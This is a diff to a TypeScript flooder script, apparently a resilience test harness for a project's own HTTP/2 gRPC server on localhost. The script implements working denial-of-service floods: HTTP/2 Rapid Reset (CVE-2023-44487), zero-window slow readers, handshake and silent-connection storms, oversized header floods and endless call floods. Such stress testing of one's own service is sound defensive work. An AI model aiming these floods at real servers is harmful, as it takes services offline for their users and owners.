@@ -1,127 +1,187 @@
-/** Somebody who wants a server to serve nobody else: a process of its own that floods until it is told to stop. */
+/**
+ * Somebody who wants a server to serve nobody else: a process of its own that floods until it is told to stop, as fast
+ * as it gets its bytes out. Prints how much that was, and how much of it the server cut short.
+ */
 import { readFileSync } from 'node:fs';
-import { connect as connectHttp2, constants, type ClientHttp2Session } from 'node:http2';
-import { connect as connectTls } from 'node:tls';
+import { connect as connectHttp2, type ClientHttp2Session } from 'node:http2';
+import { connect as connectTcp } from 'node:net';
+import { connect as connectTls, type TLSSocket } from 'node:tls';
 import { parseArgs } from 'node:util';
 import { journal } from '@pact-journal/journal-proto';
+import { encodeAppend, benchEntry, JOURNAL_APPEND_PATH } from '../commit/entry.ts';
+import { grpcFrame } from '../commit/h2load.ts';
 import { BOOT_PATH, BOOT_REQUEST } from '../secured/wire-client.ts';
+import { CallHeaders, headersFrames, plainField, PREFACE, resetFrame } from './frames.ts';
 
 const { values } = parseArgs({
-  options: { kind: { type: 'string' }, address: { type: 'string' }, ca: { type: 'string' } },
+  options: {
+    kind: { type: 'string' },
+    address: { type: 'string' },
+    from: { type: 'string' },
+    ca: { type: 'string' },
+  },
 });
-const { kind = '', address = '', ca: caPath = '' } = values;
+const { kind = '', address = '', ca: caPath = '', from: localAddress = '' } = values;
 const token = process.env['FLOODER_TOKEN'] ?? '';
-const ca = readFileSync(caPath);
-const [host = '', port = ''] = address.split(':');
+const [servername = '', port = ''] = address.split(':');
+/** Of its own, so that one flood does not pay for another. */
+const way = { host: '127.0.0.1', port: Number(port), localAddress };
+const tls = { ...way, servername, ca: readFileSync(caPath), ALPNProtocols: ['h2'] };
+const RETRY_MS = 1;
+
 /** What it got done, for whoever wants to know whether it was a flood. */
-let done = 0;
-let refused = 0;
+const counts: Record<string, number> = {};
+const startedMs = performance.now();
 
-const STATUS_PATH = journal.ClusterServiceDefinition.getStatus.path;
-const HEADERS = {
-  ':method': 'POST',
-  ':path': BOOT_PATH,
-  'content-type': 'application/grpc',
-  authorization: `Bearer ${token}`,
-};
+function count(what: string, by = 1): void {
+  counts[what] = (counts[what] ?? 0) + by;
+}
 
-/** A connection as soon as the one before is gone; `onOpen` for each. */
-function keepConnected(options: object, onOpen: (session: ClientHttp2Session) => void): void {
-  const session = connectHttp2(`https://${address}`, { ca, ...options });
-  session.on('error', () => undefined);
+/** A TLS connection that speaks frames, and another one as soon as it is gone. `next`: what to send now. */
+function keepSending(nextOf: () => () => Buffer): void {
+  const next = nextOf();
+  const socket: TLSSocket = connectTls(tls, () => {
+    count('connections');
+    socket.write(PREFACE);
+    send();
+  });
+  const send = (): void => {
+    if (socket.destroyed) return;
+    if (socket.write(next())) setImmediate(send);
+    else socket.once('drain', send);
+  };
+  socket.on('error', () => count('cut or refused')).resume();
+  socket.once('close', () => setTimeout(keepSending, RETRY_MS, nextOf));
+}
+
+/** Opens streams and resets them in the same breath (CVE-2023-44487). */
+function rapidReset(): () => Buffer {
+  const headers = new CallHeaders(address, BOOT_PATH, token);
+  let streamId = -1;
+  return () => {
+    const frames: Buffer[] = [];
+    for (let each = 0; each < 100; each += 1) {
+      streamId += 2;
+      const block = streamId === 1 ? headers.first : headers.again;
+      frames.push(headersFrames(streamId, block), resetFrame(streamId));
+    }
+    count('resets', 100);
+    return Buffer.concat(frames);
+  };
+}
+
+/** Calls with 60 KB of headers, and such with a thousand small ones. */
+function headerFlood(): () => Buffer {
+  const headers = new CallHeaders(address, BOOT_PATH, token);
+  const fields = (number: number, size: number): Buffer =>
+    Buffer.concat(Array.from({ length: number }, (_, at) => plainField(`x-${String(at)}`, 'y'.repeat(size))));
+  const tails = [fields(60, 1_000), fields(1_000, 1)] as const;
+  let streamId = -1;
+  return () => {
+    streamId += 2;
+    count('large headers');
+    const block = streamId === 1 ? headers.first : headers.again;
+    return headersFrames(streamId, Buffer.concat([block, tails[streamId % 4 === 1 ? 0 : 1]]));
+  };
+}
+
+/** An HTTP/2 connection, and another one as soon as it is gone. */
+function keepConnected(settings: object, onOpen: (session: ClientHttp2Session) => void): void {
+  const session = connectHttp2(`https://${address}`, { createConnection: () => connectTls(tls), settings });
+  session.on('error', () => count('cut or refused'));
   session.once('remoteSettings', () => {
+    count('connections');
     onOpen(session);
   });
-  session.once('close', () => {
-    refused += 1;
-    setTimeout(() => {
-      keepConnected(options, onOpen);
-    }, 1);
-  });
+  session.once('close', () => setTimeout(keepConnected, RETRY_MS, settings, onOpen));
 }
 
-/** Opens streams by the hundred and resets them as soon as the server has them (CVE-2023-44487). */
-function rapidReset(session: ClientHttp2Session): void {
+/** One call of an open connection; `onEnd` once it is over. */
+function call(session: ClientHttp2Session, path: string, body: Buffer, onEnd: () => void): void {
   if (session.closed || session.destroyed) return;
-  const batch = Array.from({ length: 100 }, () => session.request(HEADERS).on('error', () => undefined));
-  done += batch.length;
-  // What is reset before it was sent is never sent.
-  setImmediate(() => {
-    for (const stream of batch) stream.close(constants.NGHTTP2_CANCEL);
-    setImmediate(() => {
-      rapidReset(session);
-    });
+  const stream = session.request({
+    ':method': 'POST',
+    ':path': path,
+    'content-type': 'application/grpc',
+    authorization: `Bearer ${token}`,
   });
+  stream.on('error', () => undefined).once('close', onEnd);
+  count('calls');
+  stream.end(body);
+  if (path !== BOOT_PATH) stream.resume();
 }
 
-/** Asks for boots over and over and takes not one byte of their overlays. */
+/** Asks for boots, takes not one byte of their overlays, and asks again when it is cut off. */
 function readNothing(session: ClientHttp2Session): void {
-  if (session.closed || session.destroyed) return;
-  for (let count = 0; count < 100; count += 1) {
-    const stream = session.request(HEADERS).on('error', () => undefined);
-    stream.on('close', () => {
-      refused += 1;
-    });
-    stream.end(BOOT_REQUEST);
-    done += 1;
-  }
+  const ask = (): void => call(session, BOOT_PATH, BOOT_REQUEST, ask);
+  for (let each = 0; each < 100; each += 1) ask();
 }
 
-/** New connections as fast as they are made: one half shakes hands and leaves, the other one never says a word. */
-function storm(): void {
-  const socket = connectTls({ host, port: Number(port), ca, ALPNProtocols: ['h2'] });
-  const next = (): void => {
-    socket.destroy();
-    setImmediate(storm);
-  };
+/** As many calls at once as it may, for ever. */
+function callWithoutEnd(session: ClientHttp2Session): void {
+  const path = journal.ConfigServiceDefinition.getEntry.path;
+  const body = grpcFrame(journal.GetEntryRequest.encode({ sequence: 0 }).finish());
+  const ask = (): void => call(session, path, body, ask);
+  for (let each = 0; each < 1_000; each += 1) ask();
+}
+
+/** The same with commits. */
+function commitWithoutEnd(session: ClientHttp2Session): void {
+  const body = grpcFrame(encodeAppend(benchEntry()));
+  const ask = (): void => call(session, JOURNAL_APPEND_PATH, body, ask);
+  for (let each = 0; each < 1_000; each += 1) ask();
+}
+
+/** Shakes hands and leaves, at once again. */
+function shakeAndLeave(): void {
+  const socket = connectTls(tls);
   socket.once('secureConnect', () => {
-    done += 1;
-    next();
+    count('handshakes');
+    socket.destroy();
   });
-  socket.once('error', () => {
-    refused += 1;
-    next();
-  });
+  socket.once('error', () => count('cut or refused'));
+  socket.once('close', () => setImmediate(shakeAndLeave));
 }
 
-/** Calls whose headers are as large as the client can make them, and small ones that are many. */
-function headers(session: ClientHttp2Session): void {
-  if (session.closed || session.destroyed) return;
-  const big = Object.fromEntries(
-    Array.from({ length: 60 }, (_, at) => [`x-${String(at)}`, 'y'.repeat(1_000)]),
-  );
-  const many = Object.fromEntries(
-    Array.from({ length: 120 }, (_, at) => [`x-${String(at)}-${String(done)}`, 'z']),
-  );
-  for (let count = 0; count < 20; count += 1) {
-    const stream = session.request({ ...HEADERS, ':path': STATUS_PATH, ...(count % 2 === 0 ? big : many) });
-    stream.on('error', () => undefined).resume();
-    stream.end();
-    done += 1;
-  }
-  setTimeout(() => {
-    headers(session);
-  }, 1);
+/** Connects and never says a word. */
+function saysNothing(): void {
+  const socket = connectTcp(way, () => count('silent'));
+  socket.once('error', () => count('cut or refused')).resume();
+  socket.once('close', () => setTimeout(saysNothing, RETRY_MS));
+}
+
+function times(number: number, start: () => void): void {
+  for (let each = 0; each < number; each += 1) start();
 }
 
 switch (kind) {
   case 'rapid reset':
-    for (let count = 0; count < 4; count += 1) keepConnected({}, rapidReset);
+    times(4, () => keepSending(rapidReset));
     break;
   case 'slow readers':
-    for (let count = 0; count < 100; count += 1)
-      keepConnected({ settings: { initialWindowSize: 0 } }, readNothing);
+    times(100, () => keepConnected({ initialWindowSize: 0 }, readNothing));
     break;
   case 'connection storm':
-    for (let count = 0; count < 64; count += 1) storm();
+    times(64, shakeAndLeave);
+    times(64, saysNothing);
     break;
   case 'header flood':
-    for (let count = 0; count < 4; count += 1)
-      keepConnected({ maxSendHeaderBlockLength: 1024 * 1024 }, headers);
+    times(4, () => keepSending(headerFlood));
+    break;
+  case 'calls':
+    times(10, () => keepConnected({}, callWithoutEnd));
+    break;
+  case 'commits':
+    times(10, () => keepConnected({}, commitWithoutEnd));
     break;
   default:
     throw new Error(`there is no flood ${kind}`);
 }
+process.stdout.write('begun\n');
 process.on('SIGTERM', () => {
-  process.stdout.write(`${JSON.stringify({ done, refused })}\n`, () => process.exit(0));
+  const seconds = (performance.now() - startedMs) / 1_000;
+  const perSecond = Object.fromEntries(
+    Object.entries(counts).map(([what, number]) => [what, Math.round(number / seconds)]),
+  );
+  process.stdout.write(`${JSON.stringify(perSecond)}\n`, () => process.exit(0));
 });
